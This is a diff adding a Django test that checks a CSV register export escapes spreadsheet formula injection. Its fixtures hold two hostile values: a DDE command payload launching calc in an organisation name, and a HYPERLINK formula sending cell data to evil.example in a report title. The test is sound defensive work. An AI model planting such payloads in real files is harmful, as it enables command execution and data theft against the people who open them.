@@ -179,3 +179,17 @@ def test_year_pdf(world) -> None:  # type: ignore[no-untyped-def]
     response = client_for(world.lead_lars).get(reverse("systembrister:year_pdf"))
     assert response["Content-Type"] == "application/pdf"
     assert response.content.startswith(b"%PDF")
+
+
+def test_csv_formula_injection_register_export(world) -> None:  # type: ignore[no-untyped-def]
+    world.orgs["fk"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    world.orgs["fk"].save()
+    report = make_reports(world, 1)[0]
+    report.title = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+    report.save()
+    response = client_for(world.lead_lars).get(reverse("systembrister:register_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    row = next(r for r in rows[1:] if r[0] == str(report.pk))
+    assert row[1] == "'" + report.title
+    assert row[5].startswith("'@SUM(1+1)")
+    assert row[6] == "4"  # the client count is still a plain number
